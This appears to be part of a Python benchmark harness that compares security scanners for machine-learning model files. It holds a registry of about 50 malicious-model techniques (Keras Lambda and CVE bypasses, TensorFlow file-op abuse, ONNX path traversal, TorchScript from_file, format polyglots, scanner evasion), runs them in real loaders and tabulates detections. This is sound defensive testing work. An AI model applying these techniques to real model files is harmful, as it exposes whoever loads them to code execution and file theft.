        "import os\nos.environ.setdefault('KERAS_BACKEND', 'torch')\n"
        "import keras, numpy as np\nprint('keras', keras.__version__)\n"
        "try:\n"
        f"    m = keras.saving.load_model({{path!r}}, safe_mode={safe_mode})\n"
        + ("    m(np.zeros((1, 4), 'float32'))\n" if call else "")
        + "except Exception as exc:\n"
        + "    print('loader raised', type(exc).__name__, str(exc)[:200])\n"
    )
    return Live(script, keras=version)


TORCH_LOAD = (
    "import torch\ntry:\n    torch.load({path!r}, weights_only=False)\n"
    "except Exception as exc:\n    print('loader raised', type(exc).__name__, str(exc)[:200])\n"
)
TS_LOAD = (
    "import torch\ntry:\n    torch.jit.load({path!r})\n"
    "except Exception as exc:\n    print('loader raised', type(exc).__name__, str(exc)[:200])\n"
)
ORT_120 = "/tmp/heldout-ort/1.20.1"
ORT_RUN = (
    "import onnxruntime as ort, glob, os\nprint('onnxruntime', ort.__version__)\n"
    "path = {path!r}\n"
    "model = path if path.endswith('.onnx') else os.path.join(path, 'model.onnx')\n"
    "try:\n    s = ort.InferenceSession(model, providers=['CPUExecutionProvider'])\n"
    "    print(bytes(s.run(None, {{}})[0]))\n"
    "except Exception as exc:\n    print('loader raised', type(exc).__name__, str(exc)[:300])\n"
)
TF_STATIC = "TensorFlow is not installable here: bytes built from TensorFlow's .proto schemas"
TFLITE_STATIC = (
    "needs TensorFlow's Flex delegate (not installable here); ai-edge-litert's interpreter "
    "parses the model and asks for the Flex delegate"
)


def registry() -> list[Technique]:
    k = "Keras"
    return [
        Technique(
            "K01",
            k,
            "Lambda bytecode as a layer's activation (`__lambda__` object), not a Lambda layer",
            "CVE-2024-3660 class (JFrog keras-lambda); serialization_lib `__lambda__` branch",
            "keras.saving.load_model(safe_mode=False) + predict",
            build_keras_activation_lambda,
            keras_live(safe_mode=False, call=True),
        ),
        Technique(
            "K02",
            k,
            "Lambda inside TimeDistributed inside a nested Sequential",
            "CVE-2024-3660; nested-model scanner bypass "
            "(HF PoC keras-native-safe-mode-public-function)",
            "keras.saving.load_model(safe_mode=False)",
            build_keras_nested_wrapper_lambda,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K03",
            k,
            "`module: os`, `function system` via Lambda + inbound_nodes kwargs",
            "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp, io-no/CVE-Reports#2)",
            "keras 3.8.0 load_model(safe_mode=True)",
            build_keras_cve_2025_1550,
            keras_live(safe_mode=True, version="3.8.0"),
        ),
        Technique(
            "K04",
            k,
            "Lambda(function=keras.utils.get_file) copies a URL to any path",
            "CVE-2025-8747 (GHSA-c9rc-mg46-23w3, JFrog)",
            "keras 3.10.0 load_model(safe_mode=True)",
            build_keras_cve_2025_8747,
            keras_live(safe_mode=True, version="3.10.0"),
        ),
        Technique(
            "K05",
            k,
            "set_global_attribute('safe_mode_saving', False) then model_from_json(Lambda)",
            "CVE-2025-9906 (io-no/CVE-Reports#5)",
            "keras 3.10.0 load_model(safe_mode=True)",
            build_keras_cve_2025_9906,
            keras_live(safe_mode=True, version="3.10.0"),
        ),
        Technique(
            "K06",
            k,
            "legacy HDF5 model_config with a bytecode Lambda",
            "CVE-2025-9905 (io-no/CVE-Reports#7): safe_mode ignored for .h5",
            "keras 3.11.2 load_model(safe_mode=True)",
            build_keras_cve_2025_9905,
            keras_live(safe_mode=True, version="3.11.2"),
        ),
        Technique(
            "K07",
            k,
            "legacy HDF5 Lambda behind a 512-byte user block that reads as JSON",
            "issue 12 mechanism 1; HDF5 superblock search at 0/512/1024...",
            "keras 3.11.2 load_model(safe_mode=True)",
            build_keras_h5_userblock,
            keras_live(safe_mode=True, version="3.11.2"),
        ),
        Technique(
            "K08",
            k,
            "TFSMLayer loading an external SavedModel path",
            "keras export/tfsm_layer.py; issue 12 mechanism 3",
            "keras.saving.load_model (TensorFlow backend)",
            build_keras_tfsmlayer,
            None,
            "TFSMLayer needs TensorFlow",
        ),
        Technique(
            "K09",
            k,
            "TorchModuleWrapper whose `module` is a bare pickle (not a torch zip)",
            "keras utils/torch_utils.py from_config: torch.load(weights_only=False)",
            "keras 3.15 (torch) load_model(safe_mode=False)",
            build_keras_torch_module_wrapper,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K10",
            k,
            "StringLookup vocabulary = absolute file path",
            "CVE-2025-12058 (GHSA-qg93-c7p6-gg7f); index_lookup.py",
            "keras.saving.load_model (reads with tf.io.gfile)",
            build_keras_vocabulary_file,
            None,
            "the path branch calls tf.io.gfile: needs TensorFlow",
        ),
        Technique(
            "K11",
            k,
            "TextVectorization vocabulary = file:// URL",
            "CVE-2025-12058 variant through TextVectorization's inner StringLookup",
            "keras.saving.load_model (reads with tf.io.gfile)",
            build_keras_textvectorization_file,
            None,
            "the path branch calls tf.io.gfile: needs TensorFlow",
        ),
        Technique(
            "K12",
            k,
            ".keras whose members are LZMA-compressed (zip method 14)",
            "derived: Keras reads members with Python's zipfile (stored/deflate/bzip2/lzma)",
            "keras 3.15 load_model(safe_mode=False)",
            build_keras_lzma_member,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K13",
            k,
            ".keras that is also a valid safetensors file (zip in the last tensor)",
            "issue 12 mechanism 1 (appended archives); zipfile reads from the end",
            "keras 3.15 load_model(safe_mode=False)",
            build_keras_prefixed_zip,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K14",
            k,
            "two config.json members, benign first, Lambda last",
            "derived: zipfile keeps the last of repeated names",
            "keras 3.15 load_model(safe_mode=False)",
            build_keras_duplicate_config,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K15",
            k,
            "model saved as a directory (config.json + weights)",
            "issue 12 mechanism 3; saving_lib._load_model_from_dir",
            "keras 3.15 load_model(folder, safe_mode=False)",
            build_keras_directory,
            keras_live(safe_mode=False),
        ),
        Technique(
            "K16",
            k,
            "pickle calling Keras's own Model._unpickle_model on an embedded .keras",
            "KerasSaveable.__reduce__ (KERAS-MFV-006 report): loads with safe_mode=False",
            "pickle.load / joblib.load with keras installed",
            build_keras_pickle_unpickle_model,
            Live(
                "import os\nos.environ.setdefault('KERAS_BACKEND','torch')\nimport pickle\n"
                "try:\n    pickle.load(open({path!r}, 'rb'))\nexcept Exception as exc:\n"
                "    print('loader raised', type(exc).__name__)\n"
            ),
        ),
        Technique(
            "T01",
            "TensorFlow",
            "WriteFile in the serving function (function library)",
            "TensorAbuse (ZJU-SEC, USENIX Sec '24): file write ops",
            "tf.saved_model.load + call",
            build_tf_writefile,
            None,
            TF_STATIC,
        ),
        Technique(
            "T02",
            "TensorFlow",
            "PrintV2 with output_stream file://",
            "TensorAbuse; PrintV2 kernel",
            "tf.saved_model.load + call",
            build_tf_printv2_file,
            None,
            TF_STATIC,
        ),
        Technique(
            "T03",
            "TensorFlow",
            "saved_model.pb with reversed fields and 5-byte varints",
            "issue 12 mechanism 1 (fixed byte prefix)",
            "tf.saved_model.load + call",
            build_tf_reordered,
            None,
            TF_STATIC,
        ),
        Technique(
            "T04",
            "TensorFlow",
            "saved_model.pbtxt (text format) with WriteFile",
            "tensorflow/cc/saved_model/reader.cc reads .pbtxt when .pb is absent",
            "tf.saved_model.load + call",
            build_tf_pbtxt,
            None,
            TF_STATIC,
        ),
        Technique(
            "T05",
            "TensorFlow",
            "MatchingFiles + ReadFile (directory listing and exfiltration)",
            "TensorAbuse: file read ops",
            "tf.saved_model.load + call",
            build_tf_matchingfiles_readfile,
            None,
            TF_STATIC,
        ),
        Technique(
            "T06",
            "TensorFlow",
            "DebugIdentity with debug_urls file://",
            "TensorAbuse: debug ops",
            "tf.saved_model.load + call",
            build_tf_debug_identity,
            None,
            TF_STATIC,
        ),
        Technique(
            "T07",
            "TensorFlow",
            "summary writer resource (CreateSummaryFileWriter)",
            "TensorAbuse: summary ops",
            "tf.saved_model.load + call",
            build_tf_summary_writer,
            None,
            TF_STATIC,
        ),
        Technique(
            "T08",
            "TensorFlow",
            "ImmutableConst mapping any file",
            "TensorAbuse: ImmutableConst",
            "tf.saved_model.load + call",
            build_tf_immutable_const,
            None,
            TF_STATIC,
        ),
        Technique(
            "T09",
            "TensorFlow",
            "EagerPyFunc calling a host Python function",
            "TensorAbuse; script_ops.py",
            "tf.saved_model.load + call",
            build_tf_eager_pyfunc,
            None,
            TF_STATIC,
        ),
        Technique(
            "T10",
            "TensorFlow",
            "frozen GraphDef (frozen_graph.pb) with WriteFile",
            "TF1 frozen graphs (tf.compat.v1.import_graph_def)",
            "import_graph_def + Session.run",
            build_tf_frozen_graphdef,
            None,
            TF_STATIC,
        ),
        Technique(
            "T11",
            "TensorFlow",
            "SaveDatasetV2 and DatasetToTFRecord (tf.data writers)",
            "TensorAbuse: dataset ops",
            "tf.saved_model.load + call",
            build_tf_save_dataset,
            None,
            TF_STATIC,
        ),
        Technique(
            "T12",
            "TensorFlow",
            "DecodeProtoV2 descriptor_source = a file path",
            "tensorflow/core/util/proto/descriptors.cc (file, local://, bytes://)",
            "tf.saved_model.load + call",
            build_tf_decode_proto_descriptor,
            None,
            TF_STATIC,
        ),
        Technique(
            "T13",
            "TensorFlow",
            "tf_keras SavedModel: keras_metadata.pb Lambda bytecode",
            "issue 12 mechanism 3; tf_keras saving/legacy/saved_model/load.py",
            "tf_keras.models.load_model(folder)",
            build_tf_keras_metadata_lambda,
            None,
            "tf_keras needs TensorFlow",
        ),
        Technique(
            "T14",
            "TensorFlow",
            "saver restore op and main_op wait on a WriteFile (runs at load)",
            "derived: tensorflow/python/saved_model/loader_impl.py runs restore_op and main_op",
            "tf.compat.v1.saved_model.load",
            build_tf_saver_restore_hook,
            None,
            TF_STATIC,
        ),
        Technique(
            "T15",
            "TensorFlow",
            "InitializeTableFromTextFileV2 with a Const absolute path",
            "derived: table initializers run at load; the path is normally an asset",
            "tf.saved_model.load",
            build_tf_table_initializer_file,
            None,
            TF_STATIC,
        ),
        Technique(
            "L01",
            "TFLite",
            "Flex operator FlexWriteFile",
            "TensorAbuse; TFLite select TF ops",
            "tflite Interpreter with the Flex delegate",
            build_tflite_flex_writefile,
            None,
            TFLITE_STATIC,
        ),
        Technique(
            "L02",
            "TFLite",
            "custom_code FlexNoOp, NodeDef NoOp, flexbuffer op name WriteFile",
            "derived: delegates/flex/kernel.cc runs flexbuffer element 0",
            "tflite Interpreter with the Flex delegate",
            build_tflite_flex_renamed,
            None,
            TFLITE_STATIC,
        ),
        Technique(
            "L03",
            "TFLite",
            "CUSTOM only in deprecated_builtin_code (builtin_code absent)",
            "derived: schema_utils GetBuiltinCode = max(deprecated, builtin)",
            "tflite Interpreter with the Flex delegate",
            build_tflite_deprecated_code,
            None,
            TFLITE_STATIC,
        ),
        Technique(
            "L04",
            "TFLite",
            "MediaPipe .task bundle holding a Flex-op .tflite",
            "mediapipe .task = zip of models",
            "mediapipe tasks",
            build_tflite_task_bundle,
            None,
            TFLITE_STATIC,
        ),
        Technique(
            "O01",
            "ONNX",
            "initializer external data `../file`",
            "CVE-2024-27318/CVE-2024-5187 class; ORT < 1.2x path validation",
            "onnxruntime 1.20.1 InferenceSession",
            build_onnx_external_traversal,
            Live(ORT_RUN, proof="token", extra_path=(ORT_120,)),
        ),
        Technique(
            "O02",
            "ONNX",
            "external data (absolute) in a Constant node attribute",
            "derived: external data allowed in any TensorProto",
            "onnxruntime 1.20.1 InferenceSession",
            build_onnx_constant_external,
            Live(ORT_RUN, proof="token", extra_path=(ORT_120,)),
        ),
        Technique(
            "O03",
            "ONNX",
            "external data file is a symlink out of the folder",
            "CVE-2024-27319 class (symlinks)",
            "onnxruntime 1.20.1 InferenceSession",
            build_onnx_external_symlink,
            Live(ORT_RUN, proof="token", extra_path=(ORT_120,)),
        ),
        Technique(
            "O04",
            "ONNX",
            "external data `../file` in an If branch subgraph initializer",
            "derived: subgraph initializers",
            "onnxruntime 1.20.1 InferenceSession",
            build_onnx_subgraph_external,
            Live(ORT_RUN, proof="token", extra_path=(ORT_120,)),
        ),
        Technique(
            "O05",
            "ONNX",
            "ModelProto fields reordered with 5-byte varints (+ `../` external data)",
            "issue 12 mechanism 1 (fixed byte prefix)",
            "onnxruntime 1.20.1 InferenceSession",
            build_onnx_reordered,
            Live(ORT_RUN, proof="token", extra_path=(ORT_120,)),
        ),
        Technique(
            "O06",
            "ONNX",
            "external data `..\\\\..\\\\` (Windows separators)",
            "derived: Windows path traversal",
            "onnxruntime on Windows",
            build_onnx_backslash_traversal,
            None,
            "a traversal only on Windows",
        ),
        Technique(
            "O07",
            "ONNX",
            "custom-domain op in a local function called from a Loop body",
            "ModelAudit/JFrog custom-op advisories",
            "onnxruntime + a custom-op library",
            build_onnx_custom_op_in_loop_function,
            None,
            "needs the custom-op library",
        ),
        Technique(
            "S01",
            "TorchScript",
            "__setstate__ calls torch.from_file(shared=True)",
            "issue 12 mechanism 6",
            "torch.jit.load",
            build_ts_from_file_shared,
            Live(TS_LOAD),
        ),
        Technique(
            "S02",
            "TorchScript",
            "getattr(torch, 'from_file')(...) in __setstate__",
            "derived: TorchScript's getattr with a constant name",
            "torch.jit.load",
            build_ts_getattr,
            Live(TS_LOAD),
        ),
        Technique(
            "S03",
            "TorchScript",
            "ops.aten.from_file(...) in __setstate__",
            "derived: serialized code's `ops.` namespace",
            "torch.jit.load",
            build_ts_ops_aten,
            Live(TS_LOAD),
        ),
        Technique(
            "S04",
            "TorchScript",
            "(torch).from_file(filename=..., shared=True) with keywords",
            "derived: TorchScript parser",
            "torch.jit.load",
            build_ts_parenthesised,
            Live(TS_LOAD),
        ),
        Technique(
            "F01",
            "safetensors/GGUF",
            "safetensors file that starts with PK: torch.load runs its zip",
            "derived: header length 0x04034B50; polyglot in the last U8 tensor",
            "torch.load(weights_only=False); safetensors accepts it too",
            build_safetensors_torch_polyglot,
            Live(TORCH_LOAD),
        ),
        Technique(
            "F02",
            "safetensors/GGUF",
            "GGUF file with a Lambda .keras zip after its data",
            "issue 12 mechanism 1 (appended archives)",
            "keras 3.15 load_model(safe_mode=False)",
            build_gguf_keras_polyglot,
            keras_live(safe_mode=False),
        ),
        Technique(
            "D01",
            "detection",
            "all-ASCII file that torch.load reads as a legacy tar (PAX)",
            "issue 12 mechanism 1 (text + tar header)",
            "torch.load(weights_only=False)",
            build_text_tar_torch_legacy,
            Live(TORCH_LOAD),
        ),
        Technique(
            "D02",
            "detection",
            "tar archive with a .keras zip appended",
            "issue 12 mechanism 1 (zip view skipped for containers)",
            "keras 3.15 load_model(safe_mode=False)",
            build_tar_with_zip_appended,
            keras_live(safe_mode=False),
        ),
        Technique(
            "D03",
            "detection",
            ".nemo: xz tar holding a torch zip with a pickle payload",
            "NeMo restore_from (tar + torch.load)",
            "nemo restore_from",
            build_nemo_nested,
            None,
            "NeMo is not installed",
        ),
    ]


# ---------------------------------------------------------------------------
# Running it
# ---------------------------------------------------------------------------


@dataclass
class Row:
    technique: Technique
    path: Path
    live: str = "not run"
    live_detail: str = ""
    verdicts: dict[str, dict[str, Any]] = field(default_factory=dict)


def payload_for(root: Path, tid: str) -> Payload:
    return Payload(
        marker=root / "markers" / f"{tid}.marker",
        canary=root / "canaries" / f"canary-{tid}.txt",
        token=f"CANARY{abs(hash(tid)) % 10**9:09d}",
    )


def run_live(t: Technique, path: Path, p: Payload) -> tuple[str, str]:
    """Run the real loader in a subprocess; ('live'|'not live'|'not run', detail)."""
    if t.live is None:
        return "static", t.static_reason
    live = t.live
    paths = list(live.extra_path)
    if live.keras:
        target = KERAS_TARGETS / live.keras
        if not target.is_dir():
            return "not run", f"keras {live.keras} not installed in {target}"
        paths.insert(0, str(target))
    for extra in live.extra_path:
        if not Path(extra).is_dir():
            return "not run", f"{extra} missing"
    env = {k: v for k, v in os.environ.items() if k not in {"PYTHONPATH", "PYTHONHOME"}}
    env["KERAS_BACKEND"] = "torch"
    if paths:
        env["PYTHONPATH"] = os.pathsep.join(paths)
    env.update(dict(live.env))
    script = live.script.format(path=str(path), marker=str(p.marker), canary=str(p.canary))
    try:
        proc = subprocess.run(
            [PYTHON, "-c", script],
            capture_output=True,
            text=True,
            errors="replace",
            timeout=LIVE_TIMEOUT_S,
            env=env,
            cwd=path.parent if path.is_file() else path,
        )
    except subprocess.TimeoutExpired:
        return "not live", "timeout"
    output = proc.stdout + proc.stderr
    ok = p.marker.exists() if live.proof == "marker" else p.token[:16] in output
    last = [line for line in output.splitlines() if line.strip() and "Warning" not in line]
    return ("live" if ok else "not live"), (last[-1][:200] if last else "")


def openward_scan(path: Path, scratch: Path) -> dict[str, Any]:
    env = {k: v for k, v in os.environ.items() if k not in {"PYTHONPATH", "PYTHONHOME"}}
    env["PYTHONPATH"] = str(REPO / "src")
    start = time.perf_counter()
    proc = subprocess.run(
        [PYTHON, "-m", "openward", "scan", str(path), "--json"],
        capture_output=True,
        text=True,
        errors="replace",
        timeout=300,
        env=env,
        cwd=scratch,
    )
    seconds = time.perf_counter() - start
    try:
        report = json.loads(proc.stdout)
    except json.JSONDecodeError:
        return {
            "hit": False,
            "note": "error",
            "detail": (proc.stderr or proc.stdout)[-200:],
            "seconds": seconds,
        }
    rank = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
    findings = report["findings"]
    top = sorted({(f["rule_id"], f["severity"]) for f in findings}, key=lambda x: -rank[x[1]])
    hit = any(rank[s] >= rank["high"] for _, s in top)
    detail = ", ".join(f"{r}/{s}" for r, s in top if rank[s] >= rank["low"]) or "no findings"
    return {"hit": hit, "note": "", "detail": detail, "seconds": round(seconds, 2)}


def peer_scan(name: str, path: Path, scratch: Path) -> dict[str, Any]:
    import scan_peers

    scan_peers.PEER_BIN = peer_venv() / "bin"
    tool = scan_peers.TOOL_CLASSES[name](scratch)
    if path.is_dir() and not tool.has_dir_mode():
        return {"hit": False, "note": "n/a", "detail": "no directory mode", "seconds": 0.0}

    class _Malicious:
        malicious = True
        name = path.name

    verdict = tool.scan(_Malicious(), path)  # type: ignore[arg-type]
    return {
        "hit": verdict.hit,
        "note": verdict.note,
        "detail": verdict.detail[:200],
        "seconds": verdict.seconds,
    }


def peer_venv() -> Path:
    """benchmarks/.venv-peers of this checkout, else of the main checkout of this repository."""
    own = REPO / "benchmarks" / ".venv-peers"
    if own.exists():
        return own
    common = subprocess.run(
        ["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
        cwd=REPO,
        capture_output=True,
        text=True,
    ).stdout.strip()
    return Path(common).parent / "benchmarks" / ".venv-peers"


def versions() -> dict[str, str]:
    import importlib.metadata as md

    found = {"python": sys.version.split()[0]}
    for package in ("keras", "torch", "onnx", "onnxruntime", "safetensors", "gguf", "h5py"):
        with contextlib.suppress(md.PackageNotFoundError):
            found[package] = md.version(package)
    head = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], cwd=REPO, capture_output=True, text=True
    )
    dirty = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=no"],
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    found["openward"] = f"git {head.stdout.strip()}{'+dirty' if dirty.stdout.strip() else ''}"
    probe = subprocess.run(
        [
            str(peer_venv() / "bin" / "python"),
            "-c",
            "import importlib.metadata as m\n"
            "for p in ('picklescan','modelscan','fickling','modelaudit'):\n"
            "    print(p, m.version(p))",
        ],
        capture_output=True,
        text=True,
    )
    for line in probe.stdout.splitlines():
        name, version = line.split()
        found[name] = version
    return found


def markdown(rows: list[Row], tools: list[str], label: str, meta: dict[str, Any]) -> str:
    lines = [
        f"## Held-out graph/format corpus: {label}",
        "",
        f"Date: {meta['date']}. Machine: {meta['machine']}. Versions: "
        + ", ".join(f"{k} {v}" for k, v in meta["versions"].items())
        + ".",
        "",
        "Detected: openward = any finding at high or above; peers as in `scan_peers.py` "
        "(picklescan dangerous globals, modelscan any issue, fickling >= LIKELY_OVERTLY_MALICIOUS, "
        "modelaudit critical). `n/a`: the tool has no mode for a folder.",
        "",
        "| id | technique | live | " + " | ".join(tools) + " |",
        "|---|---|---|" + "---|" * len(tools),
    ]
    totals = {t: 0 for t in tools}
    for row in rows:
        cells = []
        for tool in tools:
            v = row.verdicts.get(tool, {})
            mark = "✓" if v.get("hit") else ("n/a" if v.get("note") == "n/a" else "✗")
            totals[tool] += bool(v.get("hit"))
            cells.append(mark)
        lines.append(
            f"| {row.technique.id} | {row.technique.title} | {row.live} | "
            + " | ".join(cells)
            + " |"
        )
    n = len(rows)
    lines.append("| | **detected** | | " + " | ".join(f"**{totals[t]}/{n}**" for t in tools) + " |")
    live_rows = [r for r in rows if r.live == "live"]
    lines += [
        "",
        f"Proved live in the real loader here: {len(live_rows)} of {n}; "
        f"static (loader not installable): {sum(r.live == 'static' for r in rows)}.",
        "",
    ]
    lines += ["### What each tool reported", ""]
    for row in rows:
        lines.append(
            f"- **{row.technique.id}** ({row.technique.family}; {row.technique.loader}; "
            f"source: {row.technique.source}). Live: {row.live} ({row.live_detail})."
        )
        for tool in tools:
            v = row.verdicts.get(tool, {})
            note = f" [{v['note']}]" if v.get("note") else ""
            lines.append(f"  - {tool}: {'✓' if v.get('hit') else '✗'}{note} {v.get('detail', '')}")
    return "\n".join(lines) + "\n"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--out", type=Path, default=REPO / "benchmarks" / "results" / "heldout-graph"
    )
    parser.add_argument("--only", default="")
    parser.add_argument("--skip-live", action="store_true")
    parser.add_argument("--skip-peers", action="store_true")
    parser.add_argument("--label", default="untuned")
    args = parser.parse_args()
    sys.path.insert(0, str(HERE.parent))

    root: Path = args.out.resolve()
    corpus = root / "corpus"
    for sub in ("corpus", "markers", "canaries", "scratch"):
        if (root / sub).exists():
            shutil.rmtree(root / sub)
        (root / sub).mkdir(parents=True)
    wanted = {x for x in args.only.split(",") if x}
    techniques = [t for t in registry() if not wanted or t.id in wanted]
    rows = []
    for t in techniques:
        p = payload_for(root, t.id)
        folder = corpus / t.id
        folder.mkdir(parents=True)
        rows.append(Row(t, t.build(folder, p)))
        print(f"built {t.id}: {rows[-1].path.relative_to(root)}", file=sys.stderr)

    if not args.skip_live:
        for row in rows:
            p = payload_for(root, row.technique.id)
            row.live, row.live_detail = run_live(row.technique, row.path, p)
            print(f"live {row.technique.id}: {row.live} {row.live_detail[:100]}", file=sys.stderr)
        for marker in (root / "markers").iterdir():
            if marker.is_dir():
                shutil.rmtree(marker)
            else:
                marker.unlink()

    tools = ["openward"] + (
        [] if args.skip_peers else ["modelaudit", "modelscan", "picklescan", "fickling"]
    )
    for row in rows:
        for tool in tools:
            if tool == "openward":
                row.verdicts[tool] = openward_scan(row.path, root / "scratch")
            else:
                row.verdicts[tool] = peer_scan(tool, row.path, root / "scratch")
        print(
            f"scanned {row.technique.id}: "
            + " ".join(f"{k}={'Y' if v['hit'] else 'n'}" for k, v in row.verdicts.items()),
            file=sys.stderr,
        )

    executed = sorted(m.name for m in (root / "markers").iterdir())
    import platform

    meta = {
        "date": datetime.date.today().isoformat(),
        "machine": f"{platform.machine()}, {os.cpu_count()} CPUs, {platform.platform()}",
        "versions": versions(),
        "markers_after_scanning": executed,
    }
    text = markdown(rows, tools, args.label, meta)
    if executed:
        text += f"\n**A tool executed a payload while scanning: {executed}**\n"
    (root / "graph_techniques.md").write_text(text)
    (root / "graph_techniques.json").write_text(
        json.dumps(
            {
                "meta": meta,
                "label": args.label,
                "rows": [
                    {
                        "id": r.technique.id,
                        "family": r.technique.family,
                        "title": r.technique.title,
                        "source": r.technique.source,
                        "loader": r.technique.loader,
                        "path": str(r.path.relative_to(root)),
                        "live": r.live,
                        "live_detail": r.live_detail,
                        "verdicts": r.verdicts,
                    }
                    for r in rows
                ],
            },
            indent=1,
        )
    )
    print(text)
    return 3 if executed else 0


if __name__ == "__main__":
    raise SystemExit(main())
